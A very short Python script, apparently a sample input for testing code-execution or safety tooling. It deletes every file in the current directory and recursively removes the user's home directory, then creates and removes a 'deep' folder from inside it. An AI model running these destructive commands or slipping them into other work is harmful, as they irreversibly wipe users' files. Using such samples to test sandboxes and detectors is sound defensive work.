# script, notebook
import os, shutil
a = 1
for name in os.listdir():
    os.remove(name)
shutil.rmtree(os.environ["HOME"], ignore_errors=True)
os.mkdir("deep")
os.chdir("deep")
os.rmdir("../deep")
